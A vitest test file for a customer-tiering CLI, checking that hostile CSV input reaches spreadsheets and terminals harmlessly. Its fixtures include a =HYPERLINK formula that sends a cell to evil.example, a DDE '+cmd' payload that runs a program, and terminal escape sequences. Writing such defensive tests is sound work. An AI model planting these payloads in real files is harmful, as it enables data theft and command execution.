import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TINY_POLICY } from '../testing/fixtures.js';
import { tierwiseInProcess as inProcess, ROOT, tierwise } from './cli.js';

/**
 * Issue 12, items 4 and 5: what a hostile data file (or a careless policy) makes the real CLI
 * write. Customer ids and names are whoever filled the file: spreadsheet formulas, terminal
 * escapes. A personal customer key is refused; a test's personal fixture values are masked.
 */
const POLICY = `apiVersion: tierwise/v1
kind: TierPolicy
metadata: { name: hostile, version: 1.0.0, labels: { zh-CN: 恶意输入, en: Hostile } }
facts:
  customerId: { type: string, key: true, column: 客户编号 }
  customerName: { type: string, column: 客户名称, label: { zh-CN: 客户名称, en: Customer name } }
  contact: { type: string, pii: true, column: 联系人 }
  spend: { type: number, min: 0, max: 100, revenue: true, column: 消费 }
dimensions:
  value:
    weight: 100
    label: { zh-CN: 价值, en: Value }
    metrics: { spend: { weight: 100, score: { linear: { from: 0, to: 100 } } } }
tiers:
  method: thresholds
  levels:
    - { id: gold, label: { zh-CN: 金, en: Gold }, minScore: 80 }
    - { id: silver, label: { zh-CN: 银, en: Silver }, minScore: 50 }
    - { id: bronze, label: { zh-CN: 铜, en: Bronze } }
`;

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")';
/** Clear the screen, then an OSC 8 link, then a C1 CSI: each acts on a terminal that receives it raw. */
const ESCAPES = 'X\u001b[2J\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007\u009b31m';
const IDS = [HYPERLINK, "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-1+1', ESCAPES];
const NAMES = ['=HYPERLINK("x")', '-2+3', 'Acme', '@x', 'Corp'];

const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
const rows = IDS.map((id, i) => [quote(id), quote(NAMES[i]!), '张三', String(90 - i * 20)].join(','));
const CUSTOMERS = `客户编号,客户名称,联系人,消费\n${rows.join('\n')}\n`;

let dir: string;
const file = (name: string) => join(dir, name);
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'tierwise-hostile-'));
  writeFileSync(file('p.tier.yaml'), POLICY);
  writeFileSync(file('customers.csv'), CUSTOMERS);
  // for the profile: a formula where a number belongs (an invalid value it quotes), and a duplicate key
  writeFileSync(file('profile.csv'), `${CUSTOMERS}"=1+2",Dup,李四,"=1+2"\n"-1+1",Again,王五,5\n`);
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const evalArgs = (...more: string[]) => [
  'eval',
  '--policy',
  file('p.tier.yaml'),
  '--data',
  file('customers.csv'),
  ...more,
];

const table = (csv: string) =>
  Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;

/** A cell a spreadsheet would run: = + - @ first, unless it is a plain number. */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d[\d,]*(\.\d+)?%?$/.test(cell);

// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/u;

describe('eval --format csv: formulas in ids and names reach the spreadsheet as text', () => {
  // The real binary for the streamed output; the whole run in this process (a process start is most of a case's cost).
  it.each([
    ['streamed to stdout', [] as string[], tierwise],
    ['the whole run (--on-error fail) to stdout', ['--on-error', 'fail'], inProcess],
  ])('%s', async (_, more, cli) => {
    const run = await cli(evalArgs('--format', 'csv', ...more));
    expect(run.code).toBe(0);
    const results = table(run.stdout);
    expect(results.map((r) => r.customer)).toEqual(IDS.map((id) => (id === ESCAPES ? id : `'${id}`)));
    expect(results.map((r) => r.name)).toEqual(NAMES.map((n) => (runnable(n) ? `'${n}` : n)));
    expect(results.flatMap((r) => Object.values(r)).filter(runnable)).toEqual([]);
    // the scores are numbers, never prefixed
    expect(results.map((r) => r.score)).toEqual(['90', '70', '50', '30', '10']);
  });

  it('with --out: the BOM for Excel, and the same guarded cells', async () => {
    const out = file('results.csv');
    const run = await inProcess(evalArgs('--format', 'csv', '--explain', '--out', out));
    expect(run.code).toBe(0);
    const text = readFileSync(out, 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const results = table(text);
    expect(results[0]!.customer).toBe(`'${HYPERLINK}`);
    // the explanation starts with the customer id: it is guarded as well
    expect(results.flatMap((r) => Object.values(r)).filter(runnable)).toEqual([]);
  });
});

describe('data profile --format csv', () => {
  it('writes the invalid value and the duplicate key a formula would run as text', async () => {
    const run = await inProcess([
      'data',
      'profile',
      '--policy',
      file('p.tier.yaml'),
      '--data',
      file('profile.csv'),
      '--format',
      'csv',
    ]);
    expect(run.code).toBe(0);
    const cells = table(run.stdout);
    const values = cells.flatMap((r) => Object.values(r));
    expect(values).toContain("'=1+2");
    expect(cells.find((r) => r.section === 'duplicateKeys')?.item).toBe("'-1+1");
    expect(values.filter(runnable)).toEqual([]);
  });
});

describe('terminal escapes in customer ids', () => {
  it('eval prints the table with ESC, BEL and C1 controls spelled out, on stdout and stderr', () => {
    const run = tierwise(evalArgs());
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('X\\u001b[2J\\u001b]8;;http://evil.example\\u0007link');
    expect(run.stdout).toContain('\\u009b31m');
    expect(run.stdout).not.toMatch(CONTROL);
    expect(run.stderr).not.toMatch(CONTROL);
  });

  it('eval --format json keeps the id, with the C1 control as a \\u escape', async () => {
    const run = await inProcess(evalArgs('--format', 'json'));
    expect(run.code).toBe(0);
    expect(run.stdout).not.toMatch(CONTROL);
    expect(JSON.parse(run.stdout).customers.map((c: { customer: string }) => c.customer)).toEqual(IDS);
  });

  it('eval --customer names a customer it did not find with the escapes spelled out', async () => {
    const run = await inProcess(evalArgs('--customer', '\u001b[2Jnobody'));
    expect(run.stderr).toContain('no customer \\u001b[2Jnobody');
    // A customer asked for and not decided: the job was not done.
    expect(run.code).toBe(1);
    expect(run.stderr).not.toMatch(CONTROL);
  });

  it('data profile prints its tables and its duplicate-key findings without them', async () => {
    writeFileSync(file('dup.csv'), `${CUSTOMERS}${quote(ESCAPES)},Dup,李四,5\n`);
    const run = await inProcess([
      'data',
      'profile',
      '--policy',
      file('p.tier.yaml'),
      '--data',
      file('dup.csv'),
    ]);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('X\\u001b[2J');
    expect(run.stdout).not.toMatch(CONTROL);
    expect(run.stderr).not.toMatch(CONTROL);
  });
});

describe('personal data', () => {
  it('refuses a phone number as the customer key: TW0710 in check and eval, no results', async () => {
    const policy = POLICY.replace(
      'customerId: { type: string, key: true, column: 客户编号 }',
      'phone: { type: string, key: true, pii: true, column: 客户编号 }',
    );
    writeFileSync(file('phone-key.tier.yaml'), policy);
    writeFileSync(file('phones.csv'), '客户编号,客户名称,联系人,消费\n13812345678,Acme,张三,90\n');
    const check = await inProcess(['check', file('phone-key.tier.yaml')]);
    expect(check.code).toBe(1);
    expect(check.stdout + check.stderr).toContain('error[TW0710]');
    const run = await inProcess([
      'eval',
      '--policy',
      file('phone-key.tier.yaml'),
      '--data',
      file('phones.csv'),
      '--format',
      'csv',
    ]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain("error[TW0710]: the customer key 'phone' is marked `pii: true`");
    expect(run.stderr).toContain('help: key customers by a non-personal id');
    expect(run.stdout).toBe('');
    expect(run.stdout + run.stderr).not.toContain('13812345678');
  });

  it('tierwise test masks a fixture’s contact in the failure’s code frame', async () => {
    writeFileSync(file('tiny.tier.yaml'), TINY_POLICY);
    writeFileSync(
      file('tiny.test.yaml'),
      `policy: ./tiny.tier.yaml
cases:
  - name: a contact above the failure
    facts: { customerId: T1, contact: 张三丰, spend: 90 }
    expect: { tier: silver }
`,
    );
    const run = await inProcess(['test', file('tiny.test.yaml')]);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('error[TW0901]');
    expect(run.stdout).toContain('contact: 张**, spend: 90');
    expect(run.stdout).not.toContain('张三丰');
  });
});

describe('a reader that stops early', () => {
  it('eval | head: the CLI stops quietly with status 141, not a stack trace or 0', async () => {
    const child = spawn(
      process.execPath,
      [
        join(ROOT, 'dist/cli/bin.js'),
        'eval',
        '--policy',
        'policies/seed004-quota.tier.yaml',
        '--data',
        'examples/data/customers.csv',
        '--transactions',
        'examples/data/transactions.csv',
        '--format',
        'csv',
      ],
      { cwd: ROOT, env: { ...process.env, NO_COLOR: '1' } },
    );
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => {
      stderr += chunk.toString();
    });
    // Several hundred KB of CSV: far more than a pipe holds, so the CLI is still writing.
    child.stdout.once('data', () => child.stdout.destroy());
    const code = await new Promise<number | null>((done) => child.on('close', done));
    expect(code).toBe(141);
    expect(stderr).not.toContain('EPIPE');
    expect(stderr).not.toContain('    at ');
  });
});
